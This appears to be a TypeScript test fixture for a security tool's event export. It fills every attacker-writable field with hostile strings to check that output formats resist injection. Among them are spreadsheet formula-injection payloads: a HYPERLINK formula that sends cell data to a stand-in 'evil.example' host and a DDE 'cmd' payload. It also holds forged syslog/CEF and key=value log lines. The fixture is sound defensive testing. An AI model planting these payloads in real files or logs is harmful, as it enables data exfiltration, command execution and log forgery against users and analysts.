import { randomUUID } from 'node:crypto';
import type { Finding } from '@castellan/core';
import { caseFinding } from '@castellan/core/cases';
import type { ExportedEvent } from './export-format.ts';

/** An event for tests, with what the test is about in place of the defaults. */
export function caseEvent(part: Partial<Finding> = {}): ExportedEvent {
  return {
    id: '7d1f4c1e-0000-4000-8000-000000000001',
    at: new Date('2026-11-24T04:00:00.000Z'),
    receivedAt: new Date('2026-11-24T04:00:01.250Z'),
    incidentId: '01890000-0000-7000-8000-000000000003',
    appId: '01890000-0000-7000-8000-000000000001',
    whereabouts: { country: 'DE', asn: 24940, asName: 'Hetzner Online GmbH', isHosting: true },
    finding: caseFinding(part),
  };
}

/** An event with the text in every field that somebody else may have written. */
export function hostileEvent(text: string): ExportedEvent {
  const request = { id: text, method: text, route: text, path: text, address: text };
  const event = caseEvent({
    id: randomUUID(),
    app: text,
    environment: text,
    instance: text,
    detection: text,
    reason: text,
    advice: text,
    controls: [text],
    request: { ...request, userAgent: text, user: { id: text, name: text } },
    input: { path: text, excerpt: text, transformations: [] },
    sink: { library: text, api: text, kind: 'sql' },
    span: { excerpt: text, start: 0, end: 0 },
    location: { file: text, line: 1, column: 1, function: text, sourceMapped: false },
  });
  // Who announces addresses chooses the name of it.
  return { ...event, whereabouts: { asn: 64_500, asName: text } };
}

/** What breaks formats: ends of lines, separators, quotes, formulas, controls, halves of pairs. */
export const hostileTexts: readonly string[] = [
  'a\nb\r\nc\rd',
  'pipe|and\\back\\|slash',
  'key=value src=203.0.113.9 act=allowed',
  '"quoted", and \'so\' and ""',
  '=HYPERLINK("https://evil.example/?"&A1)',
  '+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1)',
  '\t=1',
  ' =1',
  '\r=1',
  '\uff1d1',
  'NUL\0 bell\u0007 escape\u001b[31m',
  'lines\u2028and\u2029and\u0085',
  '<134>1 2026-01-01T00:00:00Z evil - - - - CEF:0|x|y|1|1|n|0|',
  'half\ud800',
  'Ł 🏰 \u202eturned',
  '',
];
